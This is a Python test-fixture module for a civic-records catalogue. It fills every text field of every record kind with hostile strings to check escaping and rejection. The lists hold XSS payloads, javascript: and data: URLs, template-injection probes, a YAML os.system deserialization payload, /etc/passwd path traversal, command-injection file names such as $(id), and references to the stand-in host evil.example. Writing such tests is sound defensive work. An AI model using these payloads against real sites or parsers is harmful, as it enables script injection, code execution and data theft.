# ruff: noqa: E501 (one hostile string a line)
"""What strangers may write into a record, and a catalogue made of it: every text field of every kind, whatever they are.

Fields are found by walking the models, so that a new field or kind is under attack as soon as it exists.
"""

from __future__ import annotations

import inspect
import types
import typing
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Annotated, Any

import yaml
from pydantic import BeforeValidator

from distretti.model import (
    Checkup,
    Circuit,
    District,
    Event,
    GlossaryTerm,
    Initiative,
    NamedBody,
    Part,
    Programme,
    ProsePage,
    PublicService,
    Question,
    Record,
    RecurringEvent,
    Region,
    Venue,
)
from distretti.model import values as fields
from distretti.model.event import EventPart, Moved, Recurrence
from distretti.model.registry import KIND_OF, VOCABULARIES
from distretti.places.register import Places

from .thorough import THOROUGH

RUN = "window.__hostile=1"
BENIGN = "Parolina"  # what the twin of each hostile record says

_SCRIPTS = [
    f"<script>{RUN}</script>", f"<ScRiPt\n>{RUN}</sCrIpT >", f"</title></textarea></style></script><script>{RUN}</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>", "<script/src=//evil.example/x.js></script>", f"--><script>{RUN}</script><!--", f"]]><?xml version='1.0'?><script>{RUN}</script><![CDATA[",
    f"<noscript><p title=\"</noscript><script>{RUN}</script>\">",
]  # fmt: skip
_HANDLERS = [
    f"<img src=x onerror={RUN}>", f"<IMG SRC=x OnErRoR\n=\n'{RUN}'>", f"<details open ontoggle={RUN}>x</details>", f"<input autofocus onfocus={RUN}>", f"<a href=# onclick={RUN}>tocca</a>",
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>", "<object data=https://evil.example/x.swf></object><embed src=//evil.example/>", "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<link rel=stylesheet href=https://evil.example/x.css>", "<form action=https://evil.example/><button>Invia</button></form>",
]  # fmt: skip
_SCHEMES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"&#106;avascript&colon;{RUN}", f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19ob3N0aWxlPTE8L3NjcmlwdD4=",
    "vbscript:MsgBox(1)", "https://user@evil.example/", "//evil.example/", "https://evil.example\\@portici.example/", "\\\\evil.example\\x", "/\\evil.example", "https://evil.example/?q=\"onmouseover=x",
    "mailto:a@evil.example?bcc=b@evil.example", "/../../../etc/passwd", "file:///etc/passwd",
]  # fmt: skip
_BREAKERS = [
    f"\" onmouseover=\"{RUN}", f"' onmouseover='{RUN}", f"` onmouseover=`{RUN}", f"\"><svg onload={RUN}>", f"'><img src=x onerror={RUN}>", f"\"autofocus tabindex=1 onfocus=\"{RUN}", "a\" style=\"display:none",
    "</p></div></main></body></html>", "<b>x", "<!--", "-->", "<", ">", "&", "&&lt;", "\"", "''", "a=b c=d", "<plaintext>", "<textarea><title><xmp><select><option><template>",
]  # fmt: skip
_TEMPLATES = [
    "{{ 7 * 7 }}", "{{ site.__class__.__mro__ }}", "{% raw %}{{ config }}{% endraw %}", "{# niente #}", "${7*7} #{7*7}", "<%= 7 * 7 %>", "{{ titolare }}", "%(name)s %s {0.__class__}", "\\1 \\g<0>",
]  # fmt: skip
_STYLES = [
    "</style><style>*{display:none}</style>", "<style>@import 'https://evil.example/x.css';</style>", "x; background: url(https://evil.example/x.png)", "width: expression(window.__hostile=1)",
    "<p style=\"background:url('//evil.example/x.png')\">x</p>", "}*{display:none}/*",
]  # fmt: skip
_DRAWINGS = [
    f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe></foreignObject></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=20>x</text></a></svg>", "<svg><use href=https://evil.example/x.svg#x /><image href=https://evil.example/x.png /></svg>",
    f"<math href=javascript:{RUN}>x</math>", f"<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=1 onerror={RUN}>\">",
]  # fmt: skip
_ENTITIES = [
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&amp;lt;script&amp;gt;{RUN}", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"&#x3C;img src=x onerror={RUN}&#x3E;", f"&#0000060script&#0000062{RUN}",
    f"%3Cscript%3E{RUN}%3C/script%3E", f"\\u003cscript\\u003e{RUN} \\x3cscript\\x3e", f"＜script＞{RUN}＜/script＞", f"+ADw-script+AD4-{RUN}", "&nbsp;&NotAnEntity;&#0;&#x110000; &copy &quot;",
]  # fmt: skip
_JSON = [
    f"</script><script>{RUN}</script>",
    "<!--<script>",
    '"},{"@type":"Person","name":"x"}',
    '\\",\\"x\\":\\"',
    "\\",
    "\\n\\u0000\\u2028",
]
_MARKDOWN = [
    f"[tocca](javascript:{RUN})", f"[tocca]( java&Tab;script:{RUN})", f"[tocca][x]\n\n[x]: javascript:{RUN}", f"<javascript:{RUN}>", "![x](https://evil.example/x.png)", f"![x](x\"onerror=\"{RUN})",
    f"[x](https://a.example \"t\" onclick=\"{RUN}\")", "[a[b](c)](d)", f"*[<img src=x onerror={RUN}>](x)*", f"# x {{: onclick={RUN} }}", "nota[^1]\n\n[^1]: <b>x</b>", f"```\n<script>{RUN}</script>\n```",
    f"<div markdown=1>\n<script>{RUN}</script>\n</div>", "| <b> | x |\n|---|---|\n| <i> | y |", "wzxhzdk:0 klzzwxh:0000", "<https://evil.example/\"onclick=x>", "# Titolo\n======\n***",
]  # fmt: skip
_YAML = [
    "*riferimento",
    "!!python/object/apply:os.system ['id']",
    "{a: [b}",
    "- x: y # z",
    "%TAG ! x",
    "NO",
    "~ x",
    "0x1F",
    "--- x",
]
_SIGNS = [
    "👩‍👩‍👧‍👦 e 🏳️‍🌈",
    "Z̸̡̛͎a̵l̷g̶o̴",
    "ﷺ 𝒟𝒾𝓈",
    "e\u0301",
    "x\u00a0y\u3000z",
    "O'Hara \u2018x\u2019 \u201cy\u201d",
    "ß ŉ İ ı ǆ",
]
_LONG = ["parola" * 160, "<" * 990, "'" * 990, "&amp;" * 198, "{{" * 495]

HOSTILE = tuple(
    dict.fromkeys(
        _SCRIPTS + _HANDLERS + _SCHEMES + _BREAKERS + _TEMPLATES + _STYLES + _DRAWINGS + _ENTITIES + _JSON + _MARKDOWN
        + _YAML + _SIGNS + _LONG
    )
)  # fmt: skip

WRITTEN = HOSTILE if THOROUGH else HOSTILE[::4]  # those of the catalogue: some of each sort

# What no reader can see and no Italian text needs: the file that has one is refused, with its position.
INVISIBLE = (
    "\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1b[31m", "\x7f", "\x80", "\x9f", "\xad", "\u061c", "\u200b", "\u200e", "\u200f",
    "\u2028", "\u2029", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2060", "\u2066", "\u2067", "\u2068",
    "\u2069", "\u206f", "\ufeff", "\ufff9", "\ufffb", "\ufffe", "\uffff", "\U000e0001", "\U000e0073",
)  # fmt: skip

NAMES = (
    "<script>alert(1)<|script>", "\"><img src=x onerror=alert(1)>", "' onload='x", "javascript:alert(1)", "..", "...", " ",
    "con spazi", "MAIUSCOLE", "però", "a%2f..%2fb", "a\nb", "a\x1b[31mb", "a\u202eb", "a\u200bb", "&lt;b&gt;", "{{ 7*7 }}",
    "-x", "x-", "x--y", "x;id", "$(id)", "`id`", "con:due", "a\\b", "-rf", "~x", "👩‍👩‍👧‍👦", "x" * 200,
)  # fmt: skip


def normal(text: str) -> str:
    """The text as a record keeps it."""
    return fields._text(" ".join(text.split()))


@dataclass(frozen=True)
class Setting:
    """What a record is filled with: its hostile text, its number, and the ids that exist to link to."""

    text: str
    number: int
    places: Places
    region: str = "lombardia"
    in_record: bool = True

    @property
    def slug(self) -> str:
        """The name of the files that hold this text."""
        return f"ostile-{self.number:03d}"

    @property
    def province(self) -> str:
        """A province of the region."""
        return min(code for code, place in self.places.provinces.items() if place.region == self.region)

    @property
    def citation(self) -> str:
        """A source of the record: the one without address, named by its hostile publisher and title."""
        return f"{normal(self.text)}, {normal(self.text)}" if self.in_record and len(self.text) <= 990 else _URL


_URL = "https://fonte.example/pagina?a='b'&c=%3Cscript%3E#x"
_ABSENT = {"uid", "aliases", "withdrawn"}  # they must differ from record to record, or take it away

# Fields without text of their own that another field excludes.
_EXCLUDED = {
    (Event, "all_day"),
    (Event, "also"),
    (Event, "moved_from"),
    (Recurrence, "also"),
    (Programme, "whole_region"),
    (Programme, "windows"),
    (District, "related"),  # its number's district is itself
}

# By the name of the field, where only something that exists will do.
_NAMED: dict[str, Callable[[Setting], Any]] = {
    "source": lambda given: given.citation,
    "sources": lambda given: [given.citation],
    "municipalities": lambda given: ["Lodi"],
    "district": lambda given: f"lombardia/{given.slug}",
    "aggregates": lambda given: [],
    "districts": lambda given: [f"lombardia/{given.slug}"],
    "calls": lambda given: [f"lombardia/{given.slug}"],
    "programme": lambda given: f"lombardia/{given.slug}",
    "born_of": lambda given: f"lombardia/{given.slug}",
    "descends_from": lambda given: f"lombardia/{given.slug}",
    "challenges": lambda given: [str(1000 + given.number)],
    "initiatives": lambda given: [given.slug],
    "initiative": lambda given: given.slug,
    "record": lambda given: f"districts/lombardia/{given.slug}",
    "venue": lambda given: f"lombardia/{given.slug}",
    "latitude": lambda given: "45.31",
    "longitude": lambda given: "9.5",
    "region": lambda given: given.region,
    "istat_code": lambda given: given.places.regions[given.region].code,
    "country": lambda given: given.text,
}

# By the check that a field goes through.
_CHECKED: dict[Any, Callable[[Setting], Any]] = {
    fields.Text: lambda given: given.text,
    fields.MunicipalityName: lambda given: given.text,
    fields.Slug: lambda given: f"termine-{given.number}",
    fields.Whole: lambda given: "1",
    fields.Number: lambda given: "1234.5",
    fields.Money: lambda given: "1234.50",
    fields.Year: lambda given: "2026",
    fields.Truth: lambda given: "true",
    fields.Date: lambda given: "2026-10-01",
    fields.Day: lambda given: "2026-10-01",
    fields.DayOfYear: lambda given: "05-01",
    fields.Moment: lambda given: "pomeriggio",
    fields.WebAddress: lambda given: _URL,
    fields.Email: lambda given: "a.b+c@ente.example",
    fields.Phone: lambda given: "+39 0371 1234",
    fields.Rule: lambda given: "FREQ=WEEKLY;BYDAY=TH",
    fields.ProvinceCode: lambda given: given.province,
    fields.IpaCode: lambda given: "c_e648",
    fields.Zone: lambda given: "Europe/Paris",
}


def filled(model: type[Part], given: Setting) -> dict[str, Any]:
    """A document of this kind in which every field is there and every text field holds the text."""
    hints = typing.get_type_hints(model, include_extras=True)
    document: dict[str, Any] = {}
    for name, info in model.model_fields.items():
        if (
            name in _ABSENT
            or (model, name) in _EXCLUDED
            or (issubclass(model, Record) and name in ("id", "prose", "translations"))
        ):
            continue
        document[info.alias or name] = _value(model, name, hints[name], given)
    return document


def _value(model: type[Part], name: str, hint: Any, given: Setting) -> Any:
    if (model, name) in _EXACT:
        return _EXACT[model, name](given)
    whole_list = name == "programme" and model is Event  # an event's programme is its rows, a grant's a record
    if name in _NAMED and not whole_list and not (name == "sources" and issubclass(model, Record)):
        return _NAMED[name](given)
    return _of(hint, given)


def _of(hint: Any, given: Setting) -> Any:
    """A value that a field of this type takes."""
    if hint in _CHECKED:
        return _CHECKED[hint](given)
    origin, inside = typing.get_origin(hint), typing.get_args(hint)
    if origin in (types.UnionType, typing.Union):
        return _of(next(item for item in inside if item is not type(None)), given)
    if origin is tuple:
        return [_of(inside[0], given)]
    if origin is Annotated and inspect.isclass(inside[0]) and issubclass(inside[0], Part):
        return filled(inside[0], given)
    if inspect.isclass(hint) and issubclass(hint, Part):
        return filled(hint, given)
    if origin is Annotated and isinstance(inside[1], BeforeValidator):
        known = inspect.getclosurevars(inside[1].func).nonlocals.get("vocabulary")
        if known:
            return next(iter(known))
    raise AssertionError(f"tests/hostile.py knows no value for {hint}: add its check to _CHECKED")


def _sources(given: Setting) -> list[dict[str, str]]:
    named = {"publisher": given.text, "title": given.text}
    return [{**named, "kind": "stampa", "url": _URL, "date": "2026"}, {**named, "date": "2026"}]


_EXACT: dict[tuple[type[Part], str], Callable[[Setting], Any]] = {
    **{(kind, "sources"): _sources for kind in KIND_OF},
    (NamedBody, "other_names"): lambda given: [f"Altro nome: {given.text}"],
    (Region, "name"): lambda given: given.places.regions[given.region].name,
    (Event, "time"): lambda given: "09:00",
    (Event, "end_time"): lambda given: "10:00",
    (RecurringEvent, "time"): lambda given: "09:00",
    (RecurringEvent, "end_time"): lambda given: "10:00",
    (EventPart, "end_time"): lambda given: "10:00",
    (Recurrence, "to"): lambda given: "12-31",
    (Moved, "from_"): lambda given: "2026-10-08",
    (RecurringEvent, "municipality"): lambda given: "Lodi",
    (Venue, "municipality"): lambda given: "Lodi",
}
_CHECKED[fields.Time] = lambda given: "09:00"


def texts(value: Any, path: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    """The paths of the text fields of a filled document: those that hold the benign word."""
    if isinstance(value, dict):
        for key, item in value.items():
            yield from texts(item, (*path, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from texts(item, (*path, index))
    elif value == BENIGN:
        yield path


KINDS: dict[type[Record], str] = {
    District: "districts/lombardia/{}.yaml",
    Event: "events/2026/{}.yaml",
    RecurringEvent: "events/ricorrenti/{}.yaml",
    Initiative: "initiatives/{}.yaml",
    Programme: "programmes/lombardia/{}.yaml",
    PublicService: "public-services/{}.yaml",
    Circuit: "circuits/{}.yaml",
    Checkup: "checkups/{}.yaml",
    Question: "questions/{}.yaml",
    Venue: "places/lombardia/{}.yaml",
}


def write(folder: Path, strings: typing.Sequence[str], places: Places) -> None:
    """A whole catalogue: a record of each kind for the benign word and each string, all regions and vocabularies."""
    for number, text in enumerate((BENIGN, *strings)):
        given = Setting(text, number, places)
        for kind, pattern in KINDS.items():
            file = folder / pattern.format(given.slug)
            _dump(file, filled(kind, given))
            file.with_suffix(".md").write_text(f"{BENIGN}.\n\n{text}\n", "utf-8")
        head = yaml.dump({"title": text, "description": text}, Dumper=yaml.CSafeDumper, allow_unicode=True)
        page = folder / f"pages/{given.slug}.md"
        page.parent.mkdir(parents=True, exist_ok=True)
        page.write_text(f"---\n{head}---\n{text}\n\n## Titolo\n\n[x](/distretti/)\n", "utf-8")
    _section_page(folder / "pages/attori.md", strings)
    regions = sorted(places.regions)
    for number, region in enumerate(regions):
        joined = " ".join(strings[number - 1 :: len(regions) - 1])[:1900] if number else BENIGN
        _dump(folder / f"regions/{region}.yaml", filled(Region, Setting(joined, number, places, region)))
    for name, entry in VOCABULARIES.items():
        given = [Setting(text, number, places, in_record=False) for number, text in enumerate((BENIGN, *strings))]
        _dump(folder / f"{name}.yaml", [_entry(entry, item) for item in given])


def _section_page(file: Path, strings: typing.Sequence[str]) -> None:
    """A page of sections, with a string at a time as title, text, empty sentence and label of a link."""
    words = " ".join(strings[0].split())
    names = ("title", "description", "lead", "full_title")
    head = yaml.dump(dict.fromkeys(names, words), Dumper=yaml.CSafeDumper, allow_unicode=True, width=10**6)
    texts = enumerate(" ".join(text.split()) for text in strings)
    body = (
        f"## {text} {{#s-{number}}}\n\n{text}\n\n{'' if number else '{{ tipi }}'}\n\n> {text}\n\n- [{text}](/distretti/)\n"
        for number, text in texts
    )
    file.write_text(f"---\n{head}---\n" + "\n".join(body), "utf-8")


def _entry(model: type[Part], given: Setting) -> dict[str, Any]:
    """An entry of a vocabulary, with the id or number by which the record of the same text names it."""
    own: dict[str, Any] = {"id": f"termine-{given.number}", "number": str(1000 + given.number), "name": given.text}
    if model is GlossaryTerm:  # no word may stand twice, however it is written
        words = {"abbreviations": [f"{given.number} {given.text}"], "forms": [f"{given.text} {given.number}"]}
        source = {"publisher": given.text, "title": given.text, "url": _URL}
        see = ["termine-0" if given.number else "termine-1"]
        own |= {"term": f"{given.text} – {given.number}", **words, "see": see, "sources": [source]}
    return {name: own.get(name, value) for name, value in filled(model, given).items()}


def write_broken(folder: Path) -> None:
    """A record of each kind with the strings where nothing takes them: they come back in messages on /problemi/."""
    document = {"name": "x", **{text[:100]: text for text in HOSTILE}, "kind": HOSTILE[0], "sources": list(HOSTILE)}
    for kind, pattern in KINDS.items():
        strings = iter(HOSTILE * 2)
        fields_of = {name: next(strings) for name in kind.model_fields if name not in ("id", "prose", "translations")}
        _dump(folder / pattern.format("rotto"), {**document, **fields_of})


def _dump(file: Path, value: Any) -> None:
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(yaml.dump(value, Dumper=yaml.CSafeDumper, allow_unicode=True, sort_keys=False), "utf-8")


SHOWN = {"title", "description", "full_title", "lead", "body"}
assert ProsePage.model_fields.keys() == {"id", "first_line", "language"} | SHOWN, "a prose page has more to attack"
